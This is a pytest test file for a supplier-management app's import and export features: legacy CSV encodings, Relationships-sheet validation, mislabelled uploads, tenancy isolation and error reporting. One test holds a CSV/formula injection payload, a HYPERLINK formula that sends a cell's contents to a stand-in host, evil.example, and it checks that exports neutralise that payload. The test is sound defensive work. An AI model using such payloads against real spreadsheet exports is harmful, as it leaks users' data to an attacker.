"""Imports end to end for issue 6: legacy CSV encodings, the Relationships sheet's errors,
a PNG on the import page, control characters from the API into the export, and tenancy."""

from __future__ import annotations

import re
import zipfile

import openpyxl
from sqlalchemy import func, select

from app.db import utcnow
from suppliers.models import ImportJob, Relationship, Supplier
from suppliers.services import imports
from tests.conftest import form_token, token_for
from tests.factories import make_org
from tests.suppliers.factories import make_supplier
from tests.suppliers.files import write_csv
from tests.suppliers.test_import import _count, _upload, post_file


def test_gbk_csv_is_stored_in_chinese_not_mojibake(client, db, compliance_user, tmp_path):
    headers = token_for(client, compliance_user.email)
    path = write_csv(tmp_path / "gbk.csv", ["name", "country", "address"],
                     [["上海纺织有限公司", "CN", "上海市浦东新区"], ["江苏棉纺厂", "CN", "南京"]],
                     encoding="gbk")
    response = _upload(client, headers, path)
    assert response.status_code == 200, response.json
    names = set(db.scalars(select(Supplier.name).where(Supplier.org_id == compliance_user.org_id)))
    assert names == {"上海纺织有限公司", "江苏棉纺厂"}


def test_csv_of_undecidable_encoding_is_422_and_writes_nothing(client, db, compliance_user,
                                                               tmp_path):
    headers = token_for(client, compliance_user.email)
    path = tmp_path / "short.csv"
    path.write_bytes("name,country\n纺织,CN\n".encode("gbk"))  # as GBK or as Big5, alike
    response = _upload(client, headers, path)
    assert response.status_code == 422
    error = response.json["error"]
    assert error["details"][0]["field"] == "file"
    assert "GBK" in error["message"] and "CSV UTF-8" in error["message"]
    assert _count(db, Supplier, compliance_user.org_id) == 0


def _workbook(path, suppliers, edges):
    workbook = openpyxl.Workbook()
    workbook.active.title = "Suppliers"
    for row in suppliers:
        workbook.active.append(row)
    sheet = workbook.create_sheet("Relationships")
    for row in edges:
        sheet.append(row)
    workbook.save(path)
    return path


def test_relationships_sheet_problems_are_row_errors_naming_the_sheet(
    client, db, compliance_user, tmp_path
):
    headers = token_for(client, compliance_user.email)
    suppliers = [["external_id", "name", "country", "supplies_to"], ["A", "Acme", "CN", None],
                 ["B", "Beta", "VN", None]]
    path = _workbook(tmp_path / "s.xlsx", suppliers, [
        ["supplier", "customer", "kind"], ["A", None, "goods"], ["B", "Z-404", "goods"],
        ["A", "A", "goods"], ["A", None, "goods"], ["tierlight:999999", None, None],
    ])
    response = _upload(client, headers, path)
    assert response.status_code == 422
    details = response.json["error"]["details"]
    assert [(d["row"], d["column"], d.get("sheet")) for d in details] == [
        (3, "customer", "Relationships"), (4, "customer", "Relationships"),
        (5, "supplier", "Relationships"), (6, "supplier", "Relationships")]
    assert "Z-404" in details[0]["message"] and "cannot supply itself" in details[1]["message"]
    assert "the same relationship as row 2" in details[2]["message"]
    assert "tierlight:999999" in details[3]["message"]
    suppliers[2][3] = "A"  # supplies_to, while the Relationships sheet lists the edges
    response = _upload(client, headers, _workbook(tmp_path / "s.xlsx", suppliers,
                                                  [["supplier", "customer"], ["A", None]]))
    assert response.status_code == 422
    assert [(d["row"], d["column"]) for d in response.json["error"]["details"]] == [
        (3, "supplies_to")]
    assert _count(db, Supplier, compliance_user.org_id) == 0


def test_relationships_sheet_defines_every_edge(client, db, compliance_user, tmp_path):
    headers = token_for(client, compliance_user.email)
    path = _workbook(tmp_path / "s.xlsx", [
        ["external_id", "name", "country", "kind"], ["A", "Acme", "CN", "manufacturer"],
        ["RA", "Manpower Nepal", "NP", "recruitment agency"], [None, "Loose Ends Co", "TR", None],
    ], [
        ["supplier", "customer", "kind", "product"], ["A", None, None, "shirts"],
        ["RA", "A", None, "workers"], ["RA", "A", "goods", "uniforms"], ["RA", None, "services",
                                                                         None],
    ])
    response = _upload(client, headers, path)
    assert response.status_code == 200, response.json
    assert response.json["relationships_created"] == 4
    names = dict(db.execute(select(Supplier.id, Supplier.name)).all())
    edges = {(names[e.supplier_id], names.get(e.customer_id), e.kind, e.product)
             for e in db.scalars(select(Relationship)
                                 .where(Relationship.org_id == compliance_user.org_id))}
    assert edges == {("Acme", None, "goods", "shirts"),
                     ("Manpower Nepal", "Acme", "labour", "workers"),
                     ("Manpower Nepal", "Acme", "goods", "uniforms"),
                     ("Manpower Nepal", None, "services", None)}
    loose = db.scalar(select(Supplier).where(Supplier.name == "Loose Ends Co"))
    assert loose.tier is None  # no edge: not linked to our company behind the user's back


def test_the_suppliers_sheet_is_found_by_name_when_relationships_come_first(
    client, db, compliance_user, tmp_path
):
    workbook = openpyxl.Workbook()
    workbook.active.title = "Relationships"
    workbook.active.append(["supplier", "customer", "kind"])
    workbook.active.append(["A", None, "goods"])
    suppliers = workbook.create_sheet("Suppliers")
    suppliers.append(["external_id", "name", "country"])
    suppliers.append(["A", "Acme", "CN"])
    workbook.save(tmp_path / "s.xlsx")
    response = _upload(client, token_for(client, compliance_user.email), tmp_path / "s.xlsx")
    assert response.status_code == 200, response.json
    assert (response.json["created"], response.json["relationships_created"]) == (1, 1)


def test_png_named_xlsx_on_the_import_page_is_named_a_png(logged_in, db, tmp_path):
    path = tmp_path / "suppliers.xlsx"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
    token = form_token(logged_in, "/suppliers/import")
    with open(path, "rb") as f:
        response = post_file(logged_in, "/suppliers/import", f, path.name, csrf_token=token)
    page = logged_in.get(response.headers["Location"])
    job = db.scalar(select(ImportJob).order_by(ImportJob.id.desc()))
    assert job.status == "failed"
    assert "looks like a PNG image" in job.message and "damaged" not in job.message
    assert "looks like a PNG image" in page.text


def test_control_characters_from_the_api_never_reach_an_export_as_a_formula(
    client, db, compliance_user, tmp_path
):
    headers = token_for(client, compliance_user.email)
    created = client.post("/api/v1/suppliers", headers=headers, json={
        "name": '\u0001=HYPERLINK("http://evil.example/?x="&A2,"Click")', "country": "CN",
        "sector": "\x1f@SUM(1)"})
    assert created.status_code == 201, created.json
    assert created.json["name"] == '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
    response = client.get("/api/v1/suppliers/export?format=xlsx", headers=headers)
    path = tmp_path / "export.xlsx"
    path.write_bytes(response.data)
    with zipfile.ZipFile(path) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist()
                      if n.startswith("xl/worksheets/"))
    assert not re.search(r"<(\w+:)?f[ >]", xml)
    sheet = openpyxl.load_workbook(path)["Suppliers"]
    assert sheet["B2"].value.startswith("'=HYPERLINK") and sheet["B2"].data_type == "s"


def test_bulk_updates_stay_inside_the_organisation(db, buyer):
    """Defence in depth: an id from another organisation is never updated by an import."""
    stranger = make_org(db, "buyer")
    theirs = make_supplier(db, stranger, name="Their Mill", workers=10, migrant_workers=None,
                           female_workers=None)
    db.flush()
    values = {f: getattr(theirs, f) for f in imports.SUPPLIER_FIELDS} | {"workers": 99}
    imports._update_suppliers(db, buyer.id, [(theirs.id, values)], utcnow())
    db.expire_all()
    assert db.get(Supplier, theirs.id).workers == 10
    assert db.scalar(select(func.count(Supplier.id)).where(Supplier.workers == 99)) == 0


def test_import_page_explains_the_relationships_sheet_and_encodings(logged_in):
    page = logged_in.get("/suppliers/import").text
    assert "<strong>Relationships</strong>" in page and "Shift-JIS" in page


def test_a_bug_of_ours_while_reading_is_a_logged_500_not_a_damaged_file(
    app, client, compliance_user, tmp_path, monkeypatch, caplog
):
    from app import spreadsheets

    def bug(*_: object) -> None:
        raise ZeroDivisionError("a bug of ours")

    headers = token_for(client, compliance_user.email)
    monkeypatch.setattr(spreadsheets, "_record", bug)
    monkeypatch.setitem(app.config, "PROPAGATE_EXCEPTIONS", False)  # as in production
    path = write_csv(tmp_path / "s.csv", ["name", "country"], [["Acme", "CN"]])
    response = _upload(client, {**headers, "X-Request-ID": "req-bug-42"}, path)
    assert response.status_code == 500
    assert response.json["error"]["code"] == "internal_error"
    assert "damaged" not in response.json["error"]["message"]
    logged = [r for r in caplog.records if r.exc_info and r.exc_info[0] is ZeroDivisionError]
    assert logged and "req-bug-42" in logged[0].getMessage()


def test_rows_without_identifiers_match_only_an_identical_supplier(client, db, compliance_user,
                                                                   tmp_path):
    headers = token_for(client, compliance_user.email)
    header = ["name", "country", "address"]
    same = [["Dhaka Denim", "BD", "Plot 4"], ["Dhaka Denim", "BD", "Plot 4"],
            ["Dhaka Denim", "BD", "Plot 9"]]
    first = _upload(client, headers, write_csv(tmp_path / "a.csv", header, same))
    assert first.json["created"] == 3
    again = _upload(client, headers, write_csv(tmp_path / "b.csv", header,
                                               [*same, ["Dhaka Denim", "BD", "Plot 12"]]))
    assert again.status_code == 200, again.json
    assert (again.json["unchanged"], again.json["created"]) == (3, 1)  # never merged
    assert _count(db, Supplier, compliance_user.org_id) == 4


def test_two_rows_matching_one_supplier_are_refused(client, db, compliance_user, tmp_path):
    headers = token_for(client, compliance_user.email)
    header = ["external_id", "name", "country", "duns"]
    _upload(client, headers, write_csv(tmp_path / "a.csv", header,
                                       [["A-1", "Acme", "CN", "150483782"]]))
    response = _upload(client, headers, write_csv(tmp_path / "b.csv", header, [
        ["A-1", "Acme", "CN", None], ["A-2", "Acme Two", "CN", "150483782"]]))
    assert response.status_code == 422
    assert response.json["error"]["details"] == [{
        "row": 3, "column": None, "message": 'This row and row 2 both match the supplier "Acme".'}]
